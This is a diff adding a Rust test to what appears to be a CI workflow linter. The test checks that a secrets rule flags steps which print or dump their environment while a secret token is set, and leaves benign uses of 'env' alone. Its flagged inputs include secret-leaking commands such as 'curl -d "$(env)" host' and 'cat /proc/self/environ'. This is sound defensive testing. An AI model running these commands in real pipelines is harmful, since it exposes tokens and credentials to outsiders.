@@ -195,6 +195,51 @@ fn an_expression_is_read_alike_in_every_spelling() {
     }
 }
 
+/// A script that shows its environment shows the secrets in it, however it is written.
+#[test]
+fn a_script_that_prints_its_environment_is_named_where_secrets_are_in_it() {
+    let step = |script: &str, secret: &str| {
+        let env = format!("        env:\n          TOKEN: {secret}\n");
+        [
+            format!("      - run: {script}\n{env}"),
+            format!("      - run: |\n          make\n          {script}\n{env}"),
+        ]
+    };
+    let secret = "${{ secrets.TOKEN }}";
+    for script in [
+        "env",
+        "printenv",
+        "env | sort",
+        "make; env > all.txt",
+        "printenv | base64",
+        "sudo env",
+        "export -p",
+        "declare -x",
+        "curl -d \"$(env)\" host",
+        "cat /proc/self/environ",
+    ] {
+        for text in step(script, secret) {
+            assert_steps("workflow-secrets", &text, true);
+        }
+        for text in step(script, "1") {
+            assert_steps("workflow-secrets", &text, false);
+        }
+    }
+    for script in [
+        "env A=1 make",
+        "printenv HOME",
+        "source env/bin/activate",
+        "cd env",
+        "tox -e env",
+        "export PATH",
+        "/usr/bin/env python",
+    ] {
+        for text in step(script, secret) {
+            assert_steps("workflow-secrets", &text, false);
+        }
+    }
+}
+
 /// What a step has as a variable is text to its shell, wherever it is written.
 #[test]
 fn a_variable_of_a_step_is_no_script() {
